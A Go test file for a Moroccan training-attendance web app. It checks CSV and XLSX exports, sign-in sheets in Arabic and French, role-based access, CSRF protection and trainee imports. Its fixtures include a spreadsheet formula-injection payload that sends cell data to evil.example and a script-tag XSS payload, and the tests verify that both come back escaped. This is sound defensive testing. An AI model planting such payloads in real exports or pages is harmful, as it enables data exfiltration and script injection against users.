package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"mime/multipart"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"

	"takaffoul/domain"
	"takaffoul/repository"
)

// Hostile names: a formula that a spreadsheet would run, and markup that a
// page would run. Both must come back as plain text.
const (
	formulaName = `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	markupName  = `<script>alert("x")</script>`
)

// exportEnv is an application with a world, bearer clients (a French
// coordinator, an Arabic trainer, the ministry), a hostile trainee
// enrolled in the trainer's course with one attendance mark, and someone
// enrolled in the other course only.
type exportEnv struct {
	*world
	coordinator, trainer, ministry *client
	trainerID                      int64
	hostile                        domain.Trainee
	stranger                       domain.Trainee // in otherCourse only
}

func newExportEnv(t *testing.T) *exportEnv {
	t.Helper()
	ctx := context.Background()
	store := newStore(t)
	web := newApp(t, store)
	env := &exportEnv{}
	bearer := func(email string, role domain.Role, lang string) (*client, *domain.User) {
		u := addUser(t, store, email, role)
		if err := store.SetUserLanguage(ctx, u.ID, lang); err != nil {
			t.Fatal(err)
		}
		token, _, err := store.CreateAPIToken(ctx, u.ID, nil)
		if err != nil {
			t.Fatal(err)
		}
		cl := newClient(t, web)
		cl.headers["Authorization"] = "Bearer " + token
		return cl, u
	}
	env.coordinator, _ = bearer("coordinator@exports.ma", domain.RoleCoordinator, "fr")
	var tr *domain.User
	env.trainer, tr = bearer("trainer@exports.ma", domain.RoleTrainer, "ar")
	env.trainerID = tr.ID
	env.ministry, _ = bearer("ministry@exports.ma", domain.RoleMinistry, "fr")
	env.world = newWorld(t, store, tr.ID)

	env.hostile = domain.Trainee{Category: domain.AssociativeActor, FullNameAr: ptr(markupName),
		FullNameLatin: ptr(formulaName), Sex: domain.Male, OrganisationID: &env.association.ID}
	env.stranger = domain.Trainee{Category: domain.InstitutionalActor, FullNameLatin: ptr("Stranger Elsewhere"),
		Sex: domain.Female, OrganisationID: &env.institution.ID}
	for _, e := range []struct {
		course int64
		t      *domain.Trainee
	}{{env.course.ID, &env.hostile}, {env.otherCourse.ID, &env.stranger}} {
		if _, err := store.EnrollNew(ctx, e.course, e.t, repository.EnrollOptions{}, nil); err != nil {
			t.Fatal(err)
		}
	}
	marks := []repository.Mark{{TraineeID: env.trainee.ID, Status: domain.Present}, {TraineeID: env.hostile.ID, Status: domain.Absent}}
	if err := store.SaveAttendance(ctx, env.session.ID, marks, &tr.ID); err != nil {
		t.Fatal(err)
	}
	return env
}

// readCSV checks the bytes of an exported CSV (BOM, CRLF line ends) and
// returns its records.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	if !strings.HasPrefix(body, "\ufeff") {
		t.Fatalf("no UTF-8 BOM: %q", body[:min(len(body), 20)])
	}
	if strings.Count(body, "\r\n") == 0 || strings.Count(body, "\n") != strings.Count(body, "\r\n") {
		t.Fatalf("lines must end in CRLF: %q", body)
	}
	records, err := csvReader(body).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	return records
}

// csvReader reads an exported CSV, BOM skipped, on the separator its
// header uses: a user's files have commas or semicolons (their choice,
// else their language's), and most tests are about something else.
func csvReader(body string) *csv.Reader {
	body = strings.TrimPrefix(body, "\ufeff")
	r := csv.NewReader(strings.NewReader(body))
	header, _, _ := strings.Cut(body, "\r\n")
	if strings.Count(header, ";") > strings.Count(header, ",") {
		r.Comma = ';'
	}
	return r
}

// column is the index of header in the first record.
func column(t *testing.T, records [][]string, header string) int {
	t.Helper()
	for i, h := range records[0] {
		if h == header {
			return i
		}
	}
	t.Fatalf("no column %q in %q", header, records[0])
	return -1
}

var attachmentName = regexp.MustCompile(`^attachment; filename="([A-Za-z0-9._-]+)"$`)

func TestAttendanceCSVThroughHTTP(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	r := env.coordinator.get(fmt.Sprintf("/exports/attendance.csv?course=%d", env.course.ID))
	expectStatus(t, "coordinator export", r, 200)
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	m := attachmentName.FindStringSubmatch(r.Header.Get("Content-Disposition"))
	if m == nil || !strings.HasPrefix(m[1], "attendance_CP-1_") || !strings.HasSuffix(m[1], ".csv") {
		t.Errorf("Content-Disposition %q", r.Header.Get("Content-Disposition"))
	}
	records := readCSV(t, r.Body)
	if len(records) != 3 { // header + two trainees × one session
		t.Fatalf("want 3 records, got %d: %q", len(records), records)
	}
	// The coordinator reads French: French headers and values.
	nameLatin, nameAr, status := column(t, records, "Nom (latin)"), column(t, records, "Nom (arabe)"), column(t, records, "Présence")
	byLatin := map[string][]string{}
	for _, rec := range records[1:] {
		byLatin[rec[nameLatin]] = rec
	}
	helene := byLatin["Hélène Aït-Lahcen"]
	if helene == nil || helene[nameAr] != "فاطمة الزهراء بنعلي" || helene[status] != "Présent" {
		t.Errorf("Arabic and French text must come back intact: %q", records)
	}
	hostile := byLatin["'"+formulaName]
	if hostile == nil {
		t.Fatalf("the formula must be escaped with a leading quote: %q", records)
	}
	if hostile[nameAr] != markupName || hostile[status] != "Absent" {
		t.Errorf("hostile row: %q", hostile)
	}

	// Machine headers and values for scripts.
	r = env.coordinator.get(fmt.Sprintf("/exports/attendance.csv?course=%d&header=keys", env.course.ID))
	expectStatus(t, "keys", r, 200)
	records = readCSV(t, r.Body)
	if records[0][0] != "attendance_id" || records[1][column(t, records, "category")] != "institutional_actor" &&
		records[1][column(t, records, "category")] != "associative_actor" {
		t.Errorf("machine keys: %q", records[:2])
	}

	// Semicolons for French-locale Excel.
	r = env.coordinator.get(fmt.Sprintf("/exports/attendance.csv?course=%d&separator=semicolon", env.course.ID))
	expectStatus(t, "semicolons", r, 200)
	if first := strings.SplitN(r.Body, "\r\n", 2)[0]; !strings.Contains(first, ";Programme;") || strings.Contains(first, ",") {
		t.Errorf("want a semicolon-separated header, got %q", first)
	}

	// Each export is audited: who, which filters, how many rows.
	var after string
	err := env.store.DB().Get(&after, `SELECT after::text FROM audit_log WHERE action = 'attendance.export' ORDER BY id LIMIT 1`)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"rows": 2`, fmt.Sprintf(`"course": %d`, env.course.ID), `"complete": true`, `"format": "csv"`} {
		if !strings.Contains(after, want) {
			t.Errorf("audit entry %s lacks %s", after, want)
		}
	}
}

func TestAttendanceExportScopeAndRoles(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	all := env.coordinator.get("/exports/attendance.csv?header=keys")
	expectStatus(t, "coordinator, everything", all, 200)
	if !strings.Contains(all.Body, "Stranger Elsewhere") || !strings.Contains(all.Body, "Hélène Aït-Lahcen") {
		t.Fatalf("the coordinator's export lacks a course: %s", all.Body)
	}

	own := env.trainer.get("/exports/attendance.csv?header=keys")
	expectStatus(t, "trainer, own courses", own, 200)
	records := readCSV(t, own.Body)
	course := column(t, records, "course_id")
	for _, rec := range records[1:] {
		if rec[course] != fmt.Sprint(env.course.ID) {
			t.Fatalf("a trainer's export holds another course's row: %q", rec)
		}
	}
	if len(records) != 3 || strings.Contains(own.Body, "Stranger Elsewhere") {
		t.Fatalf("trainer's export: %q", records)
	}

	for _, target := range []string{
		fmt.Sprintf("/exports/attendance.csv?course=%d", env.otherCourse.ID),
		fmt.Sprintf("/exports/attendance.xlsx?course=%d", env.otherCourse.ID),
		fmt.Sprintf("/exports/attendance.csv?session=%d", env.otherSess.ID),
		fmt.Sprintf("/courses/%d/matrix.csv", env.otherCourse.ID),
		fmt.Sprintf("/sessions/%d/sign-in-sheet", env.otherSess.ID),
	} {
		r := env.trainer.get(target)
		expectStatus(t, "trainer, another course: "+target, r, 404)
		if r.Header.Get("Content-Disposition") != "" {
			t.Errorf("%s: a 404 must not be a file", target)
		}
	}
	expectStatus(t, "no such course", env.coordinator.get("/exports/attendance.csv?course=999999"), 404)
	expectStatus(t, "ministry", env.ministry.get("/exports/attendance.csv"), 403)
	expectStatus(t, "ministry, xlsx", env.ministry.get("/exports/attendance.xlsx"), 403)
	expectStatus(t, "ministry, matrix", env.ministry.get(fmt.Sprintf("/courses/%d/matrix.csv", env.course.ID)), 404)
}

func TestBadExportFiltersAre422BeforeAnyByte(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	for _, tc := range []struct {
		query  string
		fields []string
	}{
		{"from=2019-13-45&category=alien&course=abc", []string{"from", "category", "course"}},
		{"from=2019-03-10&to=2019-03-01", []string{"to"}},
		{"programme=no-such-programme&province=atlantis", []string{"programme", "province"}},
		{"header=fancy&separator=tab", []string{"header", "separator"}},
	} {
		for _, format := range []string{"csv", "xlsx"} {
			r := env.coordinator.get("/exports/attendance." + format + "?" + tc.query)
			expectStatus(t, tc.query, r, 422)
			if r.Header.Get("Content-Disposition") != "" || strings.HasPrefix(r.Body, "\ufeff") {
				t.Errorf("%s: a refused export must not start a file", tc.query)
			}
			var e apiError
			decode(t, r, &e)
			for _, f := range tc.fields {
				msg := e.Fields[f]
				if msg == "" || strings.Contains(msg, "validation.") || strings.Contains(msg, "export.") {
					t.Errorf("%s: no translated message for %s: %+v", tc.query, f, e)
				}
			}
		}
	}
	// The page version: a translated error page, not a file.
	pages := newPageEnv(t)
	r := pages.coordinator.get("/exports/attendance.csv?from=yesterday")
	expectStatus(t, "page, bad date", r, 422)
	if !strings.Contains(r.Header.Get("Content-Type"), "text/html") || !strings.Contains(r.Body, "2026-03-31") {
		t.Errorf("want an error page naming the date format, got %s", r.Header.Get("Content-Type"))
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM audit_log WHERE action = 'attendance.export'`); n != 0 {
		t.Fatalf("a refused export was audited as done: %d", n)
	}
}

func TestAttendanceXLSXThroughHTTP(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	r := env.trainer.get(fmt.Sprintf("/exports/attendance.xlsx?course=%d", env.course.ID))
	expectStatus(t, "xlsx", r, 200)
	if !strings.Contains(r.Header.Get("Content-Disposition"), ".xlsx") {
		t.Errorf("Content-Disposition %q", r.Header.Get("Content-Disposition"))
	}
	f, err := excelize.OpenReader(strings.NewReader(r.Body))
	if err != nil {
		t.Fatalf("not an XLSX: %v", err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	view, err := f.GetSheetView(sheet, 0)
	if err != nil {
		t.Fatal(err)
	}
	if view.RightToLeft == nil || !*view.RightToLeft {
		t.Error("the trainer reads Arabic: the sheet must run right to left")
	}
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("want 3 rows, got %q", rows)
	}
	var found bool
	for i, row := range rows[1:] {
		for j, v := range row {
			if v != formulaName {
				continue
			}
			found = true
			cell, _ := excelize.CoordinatesToCellName(j+1, i+2)
			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
				t.Errorf("%s holds a formula %q", cell, formula)
			}
		}
	}
	if !found {
		t.Errorf("the hostile name must be a plain text cell: %q", rows)
	}
	if !strings.Contains(strings.Join(rows[0], "|"), "الاسم") && !strings.Contains(strings.Join(rows[0], "|"), "اسم") {
		t.Errorf("Arabic headers expected: %q", rows[0])
	}
}

// matrixFooterRows end a matrix for people: an empty row, the attending
// total, a row per code (issue 15).
const matrixFooterRows = 1 + 1 + 4

func TestCourseMatrixThroughHTTP(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	r := env.coordinator.get(fmt.Sprintf("/courses/%d/matrix.csv", env.course.ID))
	expectStatus(t, "matrix csv", r, 200)
	if !strings.Contains(r.Header.Get("Content-Disposition"), `filename="matrix_CP-1_`) {
		t.Errorf("Content-Disposition %q", r.Header.Get("Content-Disposition"))
	}
	records := readCSV(t, r.Body)
	if len(records) != 3+matrixFooterRows {
		t.Fatalf("want a header, 2 trainees and the footer: %q", records)
	}
	body := r.Body
	if !strings.Contains(body, "Hélène Aït-Lahcen") || !strings.Contains(body, "'"+strings.ReplaceAll(formulaName, `"`, `""`)) {
		t.Errorf("names: %s", body)
	}
	r = env.trainer.get(fmt.Sprintf("/courses/%d/matrix.xlsx", env.course.ID))
	expectStatus(t, "matrix xlsx", r, 200)
	f, err := excelize.OpenReader(strings.NewReader(r.Body))
	if err != nil {
		t.Fatalf("not an XLSX: %v", err)
	}
	defer f.Close()
	rows, _ := f.GetRows(f.GetSheetList()[0])
	if len(rows) != 3+matrixFooterRows {
		t.Fatalf("matrix rows: %q", rows)
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM audit_log WHERE action = 'matrix.export' AND entity_id = $1`, env.course.ID); n != 2 {
		t.Fatalf("want 2 audited matrix exports, got %d", n)
	}
}

func TestSignInSheetInArabicAndFrench(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	sheet := fmt.Sprintf("/sessions/%d/sign-in-sheet", env.session.ID)
	ar := env.trainer.get(sheet)
	expectStatus(t, "ar sheet", ar, 200)
	fr := env.coordinator.get(sheet)
	expectStatus(t, "fr sheet", fr, 200)
	for lang, r := range map[string]response{"ar": ar, "fr": fr} {
		body := r.Body
		if lang == "ar" && !strings.Contains(body, `<html lang="ar" dir="rtl">`) {
			t.Error("the Arabic sheet must be right to left")
		}
		if lang == "fr" && (!strings.Contains(body, `<html lang="fr" dir="ltr">`) || !strings.Contains(body, "Feuille d&#39;émargement")) {
			t.Error("the French sheet must be left to right, in French")
		}
		for _, want := range []string{"فاطمة الزهراء بنعلي", "Hélène Aït-Lahcen", "Centre multifonctionnel de Rabat",
			"CP-1", "Rabat", "Test trainer", "/static/sign-in-sheet.css", "&lt;script&gt;"} {
			if !strings.Contains(body, want) {
				t.Errorf("%s sheet lacks %q", lang, want)
			}
		}
		if strings.Contains(body, markupName) {
			t.Errorf("%s sheet: a name was not escaped", lang)
		}
		if n := strings.Count(body, `class="walk-in"`); n != 5 {
			t.Errorf("%s sheet: want 5 blank lines for walk-ins, got %d", lang, n)
		}
		if n := strings.Count(body, `<td class="signature"></td>`); n != 2+5 {
			t.Errorf("%s sheet: want an empty signature cell per line, got %d", lang, n)
		}
	}
	// Only the people enrolled in this course, and no withdrawn ones.
	if strings.Contains(fr.Body, "Stranger Elsewhere") {
		t.Error("the sheet lists someone from another course")
	}
	css := env.coordinator.get("/static/sign-in-sheet.css")
	if !strings.Contains(css.Body, "size: A4") || !strings.Contains(css.Body, "@media print") {
		t.Error("the sheet's stylesheet must set A4 paper and a print layout")
	}
}

// multipartFile is a multipart body with a file and form fields.
func multipartFile(t *testing.T, filename string, content []byte, fields map[string]string) (io.Reader, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	for k, v := range fields {
		if err := w.WriteField(k, v); err != nil {
			t.Fatal(err)
		}
	}
	if filename != "" {
		part, err := w.CreateFormFile("file", filename)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := part.Write(content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return &buf, w.FormDataContentType()
}

func (cl *client) upload(target, filename string, content []byte, fields map[string]string) response {
	cl.t.Helper()
	body, ctype := multipartFile(cl.t, filename, content, fields)
	return cl.do("POST", target, body, ctype)
}

type importAnswer struct {
	repository.ImportReport
	Error    string `json:"error"`
	Problems []struct {
		Row     int    `json:"row"`
		Column  string `json:"column"`
		Key     string `json:"key"`
		Message string `json:"message"`
	} `json:"problems"`
}

const participants = "Nom;Catégorie;Sexe;Organisme;CIN\r\n" +
	"Zoé Benkirane-Éloi;Acteur institutionnel;Femme;Centre multifonctionnel de Rabat;BK112233\r\n" +
	"خديجة الإدريسي;Acteur associatif;Femme;جمعية الأمل;BK445566\r\n"

func TestImportTraineesThroughTheAPI(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	const target = "/api/v1/imports/trainees"
	before := countRows(t, env.store, `SELECT count(*) FROM trainees`)
	course := fmt.Sprint(env.course.ID)

	r := env.coordinator.upload(target, "liste.csv", []byte(participants), map[string]string{"course_id": course, "dry_run": "true"})
	expectStatus(t, "dry run", r, 200)
	var a importAnswer
	decode(t, r, &a)
	if !a.DryRun || a.Created != 2 || a.Enrolled != 2 {
		t.Fatalf("dry run report: %s", r.Body)
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM trainees`); n != before {
		t.Fatalf("a dry run wrote %d people", n-before)
	}

	r = env.coordinator.upload(target, "liste.csv", []byte(participants), map[string]string{"course_id": course})
	expectStatus(t, "commit", r, 201)
	a = importAnswer{}
	decode(t, r, &a)
	if a.DryRun || a.Created != 2 || a.Reused != 0 || a.Enrolled != 2 {
		t.Fatalf("commit report: %s", r.Body)
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM trainees WHERE full_name_latin = 'Zoé Benkirane-Éloi' OR full_name_latin = 'خديجة الإدريسي' OR full_name_ar = 'خديجة الإدريسي'`); n != 2 {
		t.Fatalf("the names were not stored intact (%d)", n)
	}
	// The trainer imports the same list into their course: people reused.
	r = env.trainer.upload(target, "liste.csv", []byte(participants), map[string]string{"course_id": course})
	expectStatus(t, "second import", r, 201)
	a = importAnswer{}
	decode(t, r, &a)
	if a.Created != 0 || a.Reused != 2 || a.AlreadyEnrolled != 2 {
		t.Fatalf("second import must reuse people: %s", r.Body)
	}
	after := countRows(t, env.store, `SELECT count(*) FROM trainees`)
	if after != before+2 {
		t.Fatalf("want %d people, got %d", before+2, after)
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM audit_log WHERE action = 'trainees.import'`); n != 2 {
		t.Fatalf("want 2 audited imports, got %d", n)
	}
}

func TestImportRefusalsThroughTheAPI(t *testing.T) {
	t.Parallel()
	env := newExportEnv(t)
	const target = "/api/v1/imports/trainees"
	course := fmt.Sprint(env.course.ID)
	count := func() int { return countRows(t, env.store, `SELECT count(*) FROM trainees`) }
	before := count()

	win1256, err := encodeWindows1256("الاسم الكامل,الفئة,الجنس\r\nفاطمة الزهراء بنعلي,طفل برلماني,أنثى\r\n")
	if err != nil {
		t.Fatal(err)
	}
	r := env.coordinator.upload(target, "liste.csv", win1256, nil)
	expectStatus(t, "Windows-1256", r, 422)
	var a importAnswer
	decode(t, r, &a)
	if len(a.Problems) != 1 || a.Problems[0].Key != "import.encoding_windows_1256" ||
		!strings.Contains(a.Problems[0].Message, "Windows-1256") || !strings.Contains(a.Problems[0].Message, "UTF-8") {
		t.Fatalf("want the encoding message, got %s", r.Body)
	}
	if a.Error == "" || strings.Contains(a.Error, "import.") {
		t.Errorf("the answer's error must be a sentence: %q", a.Error)
	}

	child := "name,category,sex,birth year,consent,phone\nYassine,child,m,2008,yes,0612345678\n"
	r = env.coordinator.upload(target, "enfants.csv", []byte(child), map[string]string{"course_id": course})
	expectStatus(t, "child with a phone", r, 422)
	a = importAnswer{}
	decode(t, r, &a)
	if len(a.Problems) == 0 || a.Problems[0].Row != 2 || a.Problems[0].Column != "phone" || a.Problems[0].Message == "" ||
		strings.Contains(a.Problems[0].Message, "trainee.") {
		t.Fatalf("want row 2, column phone, a French message: %s", r.Body)
	}

	// Trainers import into their own courses only, and must name one.
	expectStatus(t, "trainer, no course", env.trainer.upload(target, "l.csv", []byte(participants), nil), 422)
	expectStatus(t, "trainer, another course", env.trainer.upload(target, "l.csv", []byte(participants),
		map[string]string{"course_id": fmt.Sprint(env.otherCourse.ID)}), 404)
	expectStatus(t, "ministry", env.ministry.upload(target, "l.csv", []byte(participants), nil), 403)
	expectStatus(t, "no file", env.coordinator.upload(target, "", nil, map[string]string{"course_id": course}), 422)

	// Over the engine's 10 MB (under the server's 12 MB body limit): 413,
	// with the message saying so.
	big := append([]byte("Nom;Catégorie;Sexe\r\n"), bytes.Repeat([]byte("Nadia Alaoui;Acteur institutionnel;Femme\r\n"), 11<<20/42)...)
	r = env.coordinator.upload(target, "big.csv", big, nil)
	expectStatus(t, "too large", r, 413)
	a = importAnswer{}
	decode(t, r, &a)
	if len(a.Problems) != 1 || a.Problems[0].Key != "import.file_too_large" || !strings.Contains(a.Problems[0].Message, "10 MB") {
		t.Fatalf("want the size message: %.300s", r.Body)
	}
	if n := count(); n != before {
		t.Fatalf("refused imports changed the trainees: %d → %d", before, n)
	}
}

func TestImportPageWithCSRF(t *testing.T) {
	t.Parallel()
	env := newPageEnv(t)
	page := env.coordinator.get("/imports")
	expectStatus(t, "import page", page, 200)
	if !strings.Contains(page.Body, `enctype="multipart/form-data"`) || !strings.Contains(page.Body, `name="dry_run"`) ||
		!strings.Contains(page.Body, fmt.Sprintf(`<option value="%d"`, env.course.ID)) {
		t.Fatal("the page lacks the form")
	}
	before := countRows(t, env.store, `SELECT count(*) FROM trainees`)

	// Without the CSRF token: refused, nothing read.
	r := env.coordinator.upload("/imports", "liste.csv", []byte(participants), map[string]string{"course_id": fmt.Sprint(env.course.ID)})
	expectStatus(t, "no CSRF token", r, 403)

	hostile := "Nom;Catégorie;Sexe;Organisme\r\n" + `"` + markupName + `";Acteur institutionnel;Femme;Nulle part` + "\r\n"
	r = env.coordinator.upload("/imports", "liste.csv", []byte(hostile), map[string]string{"_csrf": env.coordinator.token,
		"course_id": fmt.Sprint(env.course.ID), "dry_run": "on"})
	expectStatus(t, "problems", r, 422)
	if !strings.Contains(r.Body, `<table class="problems">`) || !strings.Contains(r.Body, "<td>2</td>") {
		t.Fatalf("want a table of problems with row 2: %s", r.Body)
	}
	if strings.Contains(r.Body, markupName) {
		t.Fatal("a name from the file was not escaped")
	}

	r = env.coordinator.upload("/imports", "liste.csv", []byte(participants), map[string]string{"_csrf": env.coordinator.token,
		"course_id": fmt.Sprint(env.course.ID), "dry_run": "on"})
	expectStatus(t, "preview", r, 200)
	if n := countRows(t, env.store, `SELECT count(*) FROM trainees`); n != before {
		t.Fatal("a preview wrote people")
	}
	r = env.coordinator.upload("/imports", "liste.csv", []byte(participants), map[string]string{"_csrf": env.coordinator.token,
		"course_id": fmt.Sprint(env.course.ID)})
	expectStatus(t, "import", r, 200)
	if !strings.Contains(r.Body, `role="status"`) {
		t.Fatalf("no report: %s", r.Body)
	}
	if n := countRows(t, env.store, `SELECT count(*) FROM trainees`); n != before+2 {
		t.Fatalf("want 2 new people, got %d", n-before)
	}
	// The course page links to the downloads and the sign-in sheets.
	course := env.trainer.get(fmt.Sprintf("/courses/%d", env.course.ID))
	for _, link := range []string{fmt.Sprintf("/exports/attendance.csv?course=%d", env.course.ID),
		fmt.Sprintf("/exports/attendance.xlsx?course=%d", env.course.ID), fmt.Sprintf("/courses/%d/matrix.csv", env.course.ID),
		fmt.Sprintf("/courses/%d/matrix.xlsx", env.course.ID), fmt.Sprintf("/sessions/%d/sign-in-sheet", env.session.ID)} {
		if !strings.Contains(course.Body, link) {
			t.Errorf("the course page lacks a link to %s", link)
		}
	}
	sheet := env.trainer.get(fmt.Sprintf("/sessions/%d/attendance", env.session.ID))
	if !strings.Contains(sheet.Body, fmt.Sprintf("/sessions/%d/sign-in-sheet", env.session.ID)) {
		t.Error("the attendance sheet lacks the sign-in sheet link")
	}
}

func encodeWindows1256(s string) ([]byte, error) {
	b, err := charmap.Windows1256.NewEncoder().String(s)
	return []byte(b), err
}
